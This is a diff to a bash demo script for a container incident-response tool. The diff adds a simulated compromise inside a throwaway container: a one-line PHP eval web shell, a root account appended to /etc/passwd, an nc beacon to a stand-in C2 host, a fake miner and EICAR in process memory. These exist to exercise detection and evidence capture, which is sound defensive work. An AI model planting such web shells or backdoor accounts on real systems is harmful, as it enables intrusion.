@@ -1,11 +1,13 @@
 #!/bin/bash
 # tests/demo.sh (make demo): a throwaway runc container from the fixture image
 # (no daemon; nothing of the machine's own container setup is touched), a
-# simulated compromise, and a whole response walked on it with every verb:
-# list, inspect, quarantine (dry run), keygen, capture (which quarantines and
-# freezes), the evidence read with outside tools (jq, tcpdump, tar, gdb),
-# verify (and a tampered copy failing), release, audit verify (a cut copy
-# failing on the bag's heads), analyze (as nobody, against the image). Cleans up.
+# simulated compromise (a fake miner logging in to a pool, a web shell, EICAR
+# only in a process's heap, a deleted executable, a C2 beacon...), and a whole
+# response walked on it with every verb: list, inspect, quarantine (dry run),
+# keygen, capture (which quarantines and freezes), the evidence read with
+# outside tools (jq, tcpdump, tar, gdb), verify (and a tampered copy failing),
+# release, audit verify (a cut copy failing on the bag's heads), analyze (as
+# nobody, against the image). Cleans up.
 set -u
 . "$(dirname "$0")/lib/lib.sh"
 . "$CONTAIN_TOP/tests/lib/containers.sh"
@@ -36,7 +38,34 @@ echo "container $CID: init pid $CPID, overlay upper $CUPPER"
 echo "link: host $HOSTIF $HOSTIP <-> container eth0 $CTRIP; it serves HTTP on :8080"
 
 say "simulate a compromise"
+# a mining pool on the host: it answers a miner's login, then hangs up (the
+# miner comes back a second later); without python3 the miner only knocks
+POOLPORT=3333
+if command -v python3 >/dev/null; then
+	python3 -c '
+import socket, sys, threading, time
+s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
+s.bind((sys.argv[1], int(sys.argv[2]))); s.listen(16)
+def pool(c):
+    c.makefile("rb").readline()
+    c.sendall(b"{\"id\":1,\"jsonrpc\":\"2.0\",\"result\":{\"status\":\"OK\"}}\n")
+    time.sleep(0.5); c.close()
+while True:
+    c, _ = s.accept(); threading.Thread(target=pool, args=(c,), daemon=True).start()
+' "$HOSTIP" "$POOLPORT" >/dev/null 2>&1 &
+	POOLD=$!
+	on_exit "kill $POOLD"
+fi
+# the intruder's downloads, through the container (fixtures/src: harmless
+# stand-ins built static, never part of the image)
+PROGS=$CONTAIN_TOP/fixtures/cache/progs
+put() { runc_exec "$NAME" sh -c "cat >'$2' && chmod 0755 '$2'" <"$1"; }
+put "$PROGS/fakeminer" /tmp/xmr
+put "$PROGS/eicarheap" /usr/local/bin/eicarheap
+printf '<?php\n@eval($_POST["cmd"]);\n?>\n' | runc_exec "$NAME" sh -c 'cat >/var/www/shell.php'
 runc_exec "$NAME" sh -c '
+	(/tmp/xmr '"$C2"' '"$POOLPORT"' >/dev/null 2>&1 &)
+	(eicarheap --addr-file /tmp/.eicar >/dev/null 2>&1 &)
 	echo "toor:x:0:0::/root:/bin/sh" >> /etc/passwd
 	rm -f /bin/wget
 	mkdir -p /tmp/.x && cp /bin/busybox /tmp/.x/sleep && (/tmp/.x/sleep 100000 >/dev/null 2>&1 &)
@@ -45,8 +74,11 @@ runc_exec "$NAME" sh -c '
 	(while :; do nc -w 3 '"$C2"' 4444 </dev/null >/dev/null 2>&1; done >/dev/null 2>&1 &)
 ' </dev/null
 wait_for 10 test -s "$CMERGED/tmp/.addr"
+wait_for 10 test -s "$CMERGED/tmp/.eicar"
 echo "planted: a root account in /etc/passwd; /bin/wget deleted; a deleted executable running as"
-echo "'sleep'; a process holding a secret in memory; a beacon trying a C2 at $C2:4444 without pause"
+echo "'sleep'; a process holding a secret in memory; a beacon trying a C2 at $C2:4444 without pause;"
+echo "a fake miner (/tmp/xmr) logging in to a pool at $C2:$POOLPORT; a PHP web shell in /var/www;"
+echo "the EICAR test string in the heap of a process (at $(cat "$CMERGED/tmp/.eicar"), never on disk)"
 
 say "find it: every runtime at once, by name, prefix or pid"
 show "$C" list
@@ -61,13 +93,13 @@ reach && echo yes || echo no
 say "an Ed25519 key for sealing the evidence"
 show "$C" keygen -o "$T_DIR/examiner"
 
-say "capture: pcap on, network cut, processes and sockets, 2 s cut off and watched, freeze, memory, fs diff, metadata, seal"
+say "capture: pcap on, 2 s observed, network cut, processes and sockets, 2 s cut off and watched, freeze, memory, fs diff, metadata, seal"
 echo "(meanwhile the host keeps knocking on $CTRIP:8080: what reaches for it from outside is evidence too)"
 (while :; do reach; sleep 0.5; done) >/dev/null 2>&1 &
 PROBER=$!
 on_exit "kill $PROBER"
 show "$C" capture "$NAME" -o "$T_DIR/case-1" --case CASE-1 --examiner "demo responder" \
-	--sign-key "$T_DIR/examiner.key" --pcap-seconds 2 --watch-cut 2
+	--sign-key "$T_DIR/examiner.key" --observe 2 --pcap-seconds 2 --watch-cut 2
 kill "$PROBER" 2>/dev/null
 wait "$PROBER" 2>/dev/null
 printf 'after:  the container answers on %s:8080? ' "$CTRIP"
@@ -142,6 +174,19 @@ show setpriv --reuid=nobody --regid=nogroup --clear-groups \
 	"$C" analyze "$T_DIR/lab/case-1" --image "$CONTAIN_TOP/fixtures/cache/fixture-docker.tar" \
 	--pubkey "$T_DIR/examiner.pub" -o "$T_DIR/lab/case-1-report"
 echo "(exit $?: a finding at or above high)"
+R=$T_DIR/lab/case-1-report/report.json
+echo "-- what YARA found: in the layer's files, in the cores (pid, address, mapping), in the pcap's streams:"
+jq -r 'def hex: [recurse(if . >= 16 then (. / 16 | floor) else empty end) | . % 16]
+	| reverse | map("0123456789abcdef"[.:. + 1]) | "0x" + join("");
+	.findings[] | select(.id | startswith("yara.")) | .evidence as $e
+	| "   \(.severity)\t\(.id)\t" + (if $e.pid != null then
+		"pid \($e.pid) (\($e.process_name)) at \($e.address | hex) in \($e.mapping)"
+	elif $e.flow != null then
+		"\($e.flow.proto) \($e.flow.src):\($e.flow.sport) -> \($e.flow.dst):\($e.flow.dport) \($e.direction)"
+	else .path end)' "$R" | sort -u | head -20
+echo "   (eicarheap put EICAR at $(cat "$CMERGED/tmp/.eicar" 2>/dev/null))"
+echo "-- the network and process findings:"
+jq -r '.findings[] | select(.id | test("^(flow|proc|mem)\\.")) | "   \(.severity)\t\(.id)\t\(.path // "")"' "$R" | head -20
 # the demo's temp dir goes at its end: the report is kept in the build dir
 rm -rf "$CONTAIN_BUILD/demo-report" && cp -a "$T_DIR/lab/case-1-report" "$CONTAIN_BUILD/demo-report" &&
 	echo "the report is kept: open $CONTAIN_BUILD/demo-report/report.html in a browser"
